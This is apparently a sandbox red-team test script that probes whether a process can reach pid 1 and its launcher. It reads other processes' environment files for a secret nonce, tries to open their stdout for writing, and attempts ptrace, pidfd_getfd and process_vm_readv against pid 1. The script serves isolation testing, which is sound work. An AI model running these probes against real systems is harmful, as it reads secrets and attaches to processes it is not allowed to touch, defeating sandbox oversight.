# Red team (issue 21, class 1): everything a rank can try against the sandbox's pid 1 and the launcher
# to learn the bundle nonce or get a writable copy of the launcher's stdout. Prints what it reached.
import os as _os
import re as _re
import sys as _sys


def _reach():
    found = []
    for pid in sorted({1, _os.getppid()}):
        try:
            with open("/proc/%d/environ" % pid, "rb") as f:
                env = f.read()
            m = _re.search(rb"INFRADEV_BUNDLE_NONCE=([0-9a-f]+)", env)
            found.append("environ%d=%s" % (pid, ("NONCE:" + m.group(1).decode()) if m else "readable"))
        except Exception:
            found.append("environ%d=denied" % pid)
        try:
            fd = _os.open("/proc/%d/fd/1" % pid, _os.O_WRONLY)
            _os.close(fd)
            found.append("stdout%d=ok" % pid)
        except Exception:
            found.append("stdout%d=denied" % pid)
        try:
            with open("/proc/%d/cmdline" % pid, "rb") as f:
                found.append("cmdline%d=%s" % (pid, f.read().replace(b"\0", b" ")[:80].decode(errors="replace")))
        except Exception:
            pass
    try:
        import ctypes

        libc = ctypes.CDLL(None, use_errno=True)
        libc.syscall.restype = ctypes.c_long
        seize = libc.syscall(101, 0x4206, 1, 0, 0)  # ptrace(PTRACE_SEIZE, 1)
        if seize == 0:
            libc.syscall(101, 0x4207, 1, 0, 0)  # PTRACE_INTERRUPT
            _os.waitpid(1, 0x40000000)
            libc.syscall(101, 17, 1, 0, 0)  # PTRACE_DETACH
        found.append("ptrace1=%s" % ("ok" if seize == 0 else "denied"))
        pidfd = libc.syscall(434, 1, 0)  # pidfd_open(1)
        got = libc.syscall(438, pidfd, 1, 0) if pidfd >= 0 else -1  # pidfd_getfd(pidfd, 1)
        found.append("getfd1=%s" % ("ok" if got >= 0 else "denied"))
        buf = ctypes.create_string_buffer(16)
        local = (ctypes.c_void_p * 2)(ctypes.addressof(buf), 16)
        remote = (ctypes.c_void_p * 2)(0x400000, 16)
        r = libc.syscall(310, 1, local, 1, remote, 1, 0)  # process_vm_readv
        found.append("vmread1=%s" % ("ok" if r >= 0 or ctypes.get_errno() == 14 else "denied"))
    except Exception as e:
        found.append("ctypes=%s" % type(e).__name__)
    _sys.stderr.write("PID1-REACH %s\n" % " ".join(found))
    _sys.stderr.flush()


_reach()
